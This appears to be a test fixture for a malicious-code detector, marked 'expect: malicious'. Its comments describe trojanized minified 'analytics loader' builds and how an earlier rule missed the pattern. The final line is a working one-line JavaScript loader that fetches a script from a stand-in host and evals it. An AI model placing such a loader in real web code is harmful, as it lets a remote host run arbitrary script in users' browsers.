// expect: malicious
// source: trojanized minified front-end builds (e.g. the 2021-2024 "analytics loader" injections): on one line, a synchronous XHR fetches a script and the same function evaluates what came back.
// (suspicious until blind set 50: the URL given to `x.open` did not reach what the request answered, so the host it
// names was unknown to the rule; it is a loader from a host the code names, malicious as any other)
!function(){var x=new XMLHttpRequest;x.open("GET","https://cdn.analytics-loader.example/s.js",!1),x.send(),eval(x.responseText)}();
